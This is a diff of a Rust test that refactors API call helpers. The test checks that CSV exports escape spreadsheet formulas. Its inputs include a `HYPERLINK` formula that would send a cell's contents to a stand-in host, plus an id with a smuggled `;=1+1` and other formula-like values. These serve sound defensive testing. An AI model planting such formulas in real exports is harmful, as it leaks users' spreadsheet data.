@@ -2,7 +2,8 @@
 
 mod common;
 
-use common::{ADMIN, call, harness, import_and_wait};
+use common::admin;
+use common::{harness, import_and_wait};
 
 const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 
@@ -30,30 +31,24 @@ async fn exports_carry_no_formulas() {
     let h = harness().await;
     let hyperlink = r#"=HYPERLINK("http://x/?"&B2)"#;
     // A token's name is free text and lands in the audit log.
-    let r = call(
-        &h.app,
-        "POST",
-        "/api/tokens",
-        Some(ADMIN),
-        Some(&serde_json::json!({"name": hyperlink, "role": "viewer"}).to_string()),
-    )
-    .await;
+    let r = admin(&h.app)
+        .post(
+            "/api/tokens",
+            &serde_json::json!({"name": hyperlink, "role": "viewer"}).to_string(),
+        )
+        .await;
     assert_eq!(r.status, 201, "{}", r.text);
     // An id with a separator and a formula in it.
     let formula_id = format!("{};=1+1", h.up.id("2041"));
     h.up.track(&formula_id);
-    let r = call(
-        &h.app,
-        "PUT",
-        &format!("/api/objects/aor/{formula_id}"),
-        Some(ADMIN),
-        Some(r#"{"fields":[{"attribute":"max_contacts","value":"1"}]}"#),
-    )
-    .await;
+    let r = admin(&h.app)
+        .put(
+            &format!("/api/objects/aor/{formula_id}"),
+            r#"{"fields":[{"attribute":"max_contacts","value":"1"}]}"#,
+        )
+        .await;
     assert_eq!(r.status, 200, "{}", r.text);
-    let audit = call(&h.app, "GET", "/api/audit.csv", Some(ADMIN), None)
-        .await
-        .text;
+    let audit = admin(&h.app).get("/api/audit.csv").await.text;
     assert_no_formula("audit", &audit);
     assert!(cells(&audit).contains(&format!("'{hyperlink}")), "{audit}");
     assert!(cells(&audit).contains(&formula_id), "{audit}");
@@ -62,19 +57,12 @@ async fn exports_carry_no_formulas() {
     let [a, b, c] = ["4201", "4202", "4203"].map(|e| h.up.id(e));
     let file = format!("extension,name\n{a},=1+2\n{b},@SUM(A1)\n{c},-Lena\n");
     let id = import_and_wait(&h.app, &file).await;
-    let results = call(
-        &h.app,
-        "GET",
-        &format!("/api/imports/{id}/results.csv"),
-        Some(ADMIN),
-        None,
-    )
-    .await
-    .text;
-    assert_no_formula("import results", &results);
-    let export = call(&h.app, "GET", "/api/phone-users.csv", Some(ADMIN), None)
+    let results = admin(&h.app)
+        .get(&format!("/api/imports/{id}/results.csv"))
         .await
         .text;
+    assert_no_formula("import results", &results);
+    let export = admin(&h.app).get("/api/phone-users.csv").await.text;
     assert_no_formula("phone users", &export);
     let names = cells(&export);
     for name in ["'=1+2", "'@SUM(A1)", "'-Lena"] {
